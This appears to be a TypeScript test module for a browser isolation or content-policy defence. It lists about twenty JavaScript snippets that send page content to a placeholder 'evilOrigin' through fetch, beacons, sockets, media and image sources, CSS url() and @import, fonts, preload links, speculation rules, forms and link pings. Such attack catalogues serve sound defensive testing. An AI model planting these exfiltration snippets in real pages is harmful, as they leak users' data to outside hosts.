import type { Attack } from './Attack';

const element = 'document.body.appendChild(document.createElement';

const linkAttack =
  (rel: string, rest = ''): Attack =>
  ({ evilOrigin }) =>
    `const l = document.createElement('link'); l.rel = '${rel}'; ${rest} l.href = '${evilOrigin}/${rel}';
     document.head.append(l); await settled(l); l.remove()`;

const mediaAttack =
  (name: string): Attack =>
  ({ evilOrigin }) =>
    `const m = ${element}('${name}')); m.src = '${evilOrigin}/${name}?' + document.title; await settled(m); m.remove()`;

/** Attacks that send the page's content to another origin without leaving the page. */
export const leaks: Readonly<Record<string, Attack>> = {
  fetch: ({ evilOrigin }) =>
    `await fetch('${evilOrigin}/fetch', { mode: 'no-cors', method: 'POST', body: document.title })`,
  'a fetch with keepalive': ({ evilOrigin }) =>
    `await fetch('${evilOrigin}/keepalive', { mode: 'no-cors', keepalive: true })`,
  XMLHttpRequest: ({ evilOrigin }) =>
    `const x = new XMLHttpRequest(); x.open('GET', '${evilOrigin}/xhr'); x.send(); await settled(x)`,
  'a beacon': ({ evilOrigin }) =>
    `navigator.sendBeacon('${evilOrigin}/beacon', document.title); await turn()`,
  'a socket': ({ evilOrigin }) =>
    `const w = new WebSocket('${evilOrigin.replace('http', 'ws')}/socket'); await settled(w)`,
  'an event stream': ({ evilOrigin }) =>
    `const s = new EventSource('${evilOrigin}/stream'); await settled(s); s.close()`,
  'an image': mediaAttack('img'),
  'a video': mediaAttack('video'),
  'an audio file': mediaAttack('audio'),
  'a frame': mediaAttack('iframe'),
  'an image outside the document': ({ evilOrigin }) =>
    `const i = new Image(); i.src = '${evilOrigin}/image'; await settled(i)`,
  'a background image': ({ evilOrigin }) =>
    `const d = ${element}('div')); d.style.backgroundImage = 'url(${evilOrigin}/background)'; d.textContent = '.';
     d.getBoundingClientRect(); await turn(); d.remove()`,
  'a constructed style sheet': ({ evilOrigin }) =>
    `const s = new CSSStyleSheet(); s.replaceSync('body { cursor: url(${evilOrigin}/cursor), auto }');
     document.adoptedStyleSheets.push(s); await turn(); document.adoptedStyleSheets.pop()`,
  'a style element': ({ evilOrigin }) =>
    `const s = document.createElement('style'); s.textContent = '@import "${evilOrigin}/import";'; document.head.append(s);
     await turn(); s.remove()`,
  'a font': ({ evilOrigin }) => `await new FontFace('evil', 'url(${evilOrigin}/font)').load()`,
  'a foreign style sheet': linkAttack('stylesheet'),
  'a prefetch': linkAttack('prefetch'),
  'a preload': linkAttack('preload', "l.as = 'image';"),
  'a module preload': linkAttack('modulepreload'),
  'a speculation rule': ({ evilOrigin }) =>
    `const s = document.createElement('script'); s.type = 'speculationrules';
     s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${evilOrigin}/ahead'] }] }); document.body.append(s);
     await turn()`,
  'a form that targets a frame': ({ evilOrigin }) =>
    `const f = ${element}('form')); f.method = 'post'; f.action = '${evilOrigin}/form'; f.target = 'sink';
     const i = ${element}('iframe')); i.name = 'sink'; f.submit(); await turn()`,
  'the ping attribute of a link': ({ evilOrigin }) =>
    `const a = ${element}('a')); a.href = '/#/'; a.ping = '${evilOrigin}/ping'; a.click(); await turn(); a.remove()`,
};
